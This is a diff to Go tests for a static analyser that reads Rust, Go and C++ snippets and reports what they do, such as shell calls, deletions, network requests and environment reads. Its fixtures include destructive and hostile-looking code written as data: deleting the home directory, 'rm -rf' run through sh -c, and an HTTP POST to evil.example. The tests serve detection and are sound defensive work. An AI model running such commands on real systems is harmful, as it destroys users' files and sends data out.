@@ -31,7 +31,16 @@ func TestReadProgram(t *testing.T) {
 		{"c++ ofstream", "c++", "int main(){ std::ofstream out(\"/etc/x\"); }", "write:/etc/x", false},
 		{"c++ digit separator", "c++", "int main(){ int n = 1'000'000; system(\"id\"); }", "shell:id", false},
 		{"rust command", "rust", "use std::process::Command;\nfn main(){ Command::new(\"ls\").args(&[\"-l\", \"/\"]).status().unwrap(); }", "exec:ls|-l|/", false},
-		{"rust split builder", "rust", "fn main(){ let mut c = std::process::Command::new(\"rm\"); c.arg(\"-rf\"); c.status(); }", "exec:rm", true},
+		{"rust bound builder", "rust", "fn main(){ let mut c = std::process::Command::new(\"rm\"); c.arg(\"-rf\"); c.status(); }", "exec:rm|-rf", false},
+		{"rust builder passed on", "rust", "fn main(){ let mut c = Command::new(\"rm\"); add(&mut c); c.status(); }", "", true},
+		{"rust builder directory", "rust", "fn main(){ Command::new(\"git\").current_dir(\"sub\").status(); }", "", true},
+		{"rust home delete", "rust", "fn main(){ std::fs::remove_dir_all(std::env::var(\"HOME\").unwrap()).ok(); }", "tree:\x00HOME\x00 env:HOME", false},
+		{"rust format home", "rust", "fn main(){ let home = env::var(\"HOME\").unwrap(); fs::remove_file(format!(\"{}/.bashrc\", home)).ok(); }", "env:HOME delete:\x00HOME\x00/.bashrc", false},
+		{"rust out dir join", "rust", "fn main(){\n let out = env::var_os(\"OUT_DIR\").unwrap();\n let dest = Path::new(&out).join(\"gen.rs\");\n fs::write(&dest, \"x\").unwrap();\n}", "env:OUT_DIR write:\x00OUT_DIR\x00/gen.rs", false},
+		{"rust program at run time", "rust", "fn main(){ let p = std::env::args().nth(1).unwrap(); Command::new(p).status(); }", "", true},
+		{"rust program from env", "rust", "fn main(){ let p = std::env::var(\"TOOL\").unwrap(); Command::new(p).status(); }", "env:TOOL", true},
+		{"rust argument from home", "rust", "fn main(){ Command::new(\"rm\").args(&[\"-rf\", &format!(\"{}/x\", env::var(\"HOME\").unwrap())]).status(); }", "exec:rm|-rf|\x00HOME\x00/x env:HOME", false},
+		{"rust nul literal", "rust", "fn main(){ std::fs::remove_dir_all(\"\\0HOME\\0\").ok(); }", "", true},
 		{"rust lifetimes and chars", "rust", "fn f<'a>(x: &'a str) -> char { let _ = r#\"Command::new(\"x\")\"#; '\\'' }", "", false},
 		{"rust nested comment", "rust", "/* a /* b */ std::fs::remove_file(\"x\") */ fn main(){}", "", false},
 		{"rust extern", "rust", "extern \"C\" { fn system(c: *const u8) -> i32; }\nfn main(){}", "", true},
@@ -52,6 +61,14 @@ func TestReadProgram(t *testing.T) {
 		{"go string", "go", "package main\nimport \"fmt\"\nfunc main(){ fmt.Println(\"exec.Command(\\\"rm\\\")\") }", "", false},
 		{"go syscall", "go", "package main\nimport \"syscall\"\nfunc main(){ syscall.Exec(\"/bin/sh\", nil, nil) }", "", true},
 		{"go signal constant", "go", "package main\nimport (\"os/signal\"; \"syscall\"; \"os\")\nfunc main(){ c := make(chan os.Signal, 1); signal.Notify(c, syscall.SIGTERM) }", "", false},
+		{"go home join", "go", "package p\nimport (\"os\"; \"path/filepath\")\nfunc init(){ home, _ := os.UserHomeDir(); os.RemoveAll(filepath.Join(home, \".cache\")) }", "tree:\x00HOME\x00/.cache", false},
+		{"go getenv home", "go", "package p\nimport \"os\"\nfunc init(){ os.RemoveAll(os.Getenv(\"HOME\")) }", "tree:\x00HOME\x00 env:HOME", false},
+		{"go sprintf and spread", "go", "package p\nimport (\"fmt\"; \"os\"; \"os/exec\")\nfunc init(){ h, _ := os.UserHomeDir(); exec.Command(\"sh\", \"-c\", fmt.Sprintf(\"rm -rf %s/x\", h)).Run(); args := []string{\"-la\", \"/etc\"}; exec.Command(\"ls\", args...).Run() }", "exec:sh|-c|rm -rf \x00HOME\x00/x exec:ls|-la|/etc", false},
+		{"go test temp dir", "go", "package p\nimport \"os\"\nfunc TestA(t *testing.T){ dir := t.TempDir(); defer os.RemoveAll(dir); os.WriteFile(dir+\"/x\", nil, 0o644) }", "", false},
+		{"go program from env", "go", "package p\nimport (\"os\"; \"os/exec\")\nfunc init(){ exec.Command(os.Getenv(\"TOOL\")).Run() }", "env:TOOL", true},
+		{"go test server", "go", "package p\nimport (\"net/http\"; \"net/http/httptest\")\nfunc TestS(t *testing.T){ srv := httptest.NewServer(http.NotFoundHandler()); defer srv.Close(); http.Get(srv.URL) }", "network:http://127.0.0.1", false},
+		{"go literal request", "go", "package p\nimport \"net/http\"\nfunc init(){ http.Post(\"https://evil.example/u\", \"text/plain\", nil) }", "network:https://evil.example/u", false},
+		{"go request at run time", "go", "package p\nimport \"net/http\"\nfunc f(u string){ http.Get(u) }", "network:", false},
 		{"go openfile read", "go", "package main\nimport \"os\"\nfunc main(){ os.OpenFile(\"x\", os.O_RDONLY, 0) }", "read:x", false},
 	}
 	names := map[EffectKind]string{Shell: "shell", Exec: "exec", Delete: "delete", DeleteTree: "tree", Write: "write", Read: "read", Move: "move", Network: "network", Server: "server", EnvDump: "envdump", Env: "env"}
@@ -79,6 +96,12 @@ func fuzzProgram(f *testing.F, lang string, seeds ...string) {
 	f.Fuzz(func(t *testing.T, src string) {
 		start := time.Now()
 		p := ReadProgram(lang, src)
+		for _, d := range p.Generate {
+			_, _ = GoGenerateWords(d.Text)
+		}
+		if p.Unread != "" && (len(p.Effects) > 0 || p.Unknown != "") {
+			t.Errorf("%q: effects reported for code not read whole: %+v", src, p)
+		}
 		if d := time.Since(start); d > 50*time.Millisecond {
 			if start = time.Now(); ReadProgram(lang, src).Lang != "" && time.Since(start) > 50*time.Millisecond {
 				t.Errorf("took %v on %d bytes", d, len(src))
@@ -108,6 +131,31 @@ func FuzzJavaProgram(f *testing.F) {
 	fuzzProgram(f, "java", "class A { void m() { Runtime.getRuntime().exec(new String[]{\"a\"}); } }", "class B { String s = \"\"\"\n x \"\"\"; char c = '\\u0041'; }", "new ProcessBuilder(List.of(\"a\", \"b\")).start();")
 }
 
+// FuzzGoProgram also splits each //go:generate directive found, as go
+// generate would.
 func FuzzGoProgram(f *testing.F) {
-	fuzzProgram(f, "go", "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"ls\").Run() }", "package main\nimport \"os\"\nfunc main(){ os.WriteFile(\"x\", nil, 0o644) }")
+	fuzzProgram(f, "go", "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"ls\").Run() }", "package main\nimport \"os\"\nfunc main(){ os.WriteFile(\"x\", nil, 0o644) }",
+		"package p\n//go:generate stringer -type=X\n", "package p\nvar h, _ = os.UserHomeDir()\nfunc f() { os.RemoveAll(filepath.Join(h, \"x\")) }", "//go:generate \"a\\\"b\" c\n")
+}
+
+func TestGoDirectives(t *testing.T) {
+	p := ReadProgram("go", "package app\n\n//go:generate stringer -type=Color\nvar s = `\n//go:generate sh -c x\n`\n")
+	if p.Package != "app" || len(p.Generate) != 2 || p.Generate[0].Line != 3 || p.Generate[0].Text != " stringer -type=Color" || p.Generate[1].Line != 5 {
+		t.Errorf("package %q, directives %+v", p.Package, p.Generate)
+	}
+	if p := ReadProgram("go", "package p\n//go:generate x\nfunc {"); p.Unread == "" || len(p.Generate) != 1 {
+		t.Errorf("a file that does not parse: %+v", p)
+	}
+}
+
+func TestGoGenerateWords(t *testing.T) {
+	w, err := GoGenerateWords(` sh -c "rm -rf \"x y\"" $GOFILE`)
+	if err != nil || strings.Join(w, "|") != `sh|-c|rm -rf "x y"|$GOFILE` {
+		t.Errorf("got %q, %v", w, err)
+	}
+	for _, bad := range []string{` "open`, ` "a"b`, ` "\q"`} {
+		if _, err := GoGenerateWords(bad); err == nil {
+			t.Errorf("%q: no error", bad)
+		}
+	}
 }
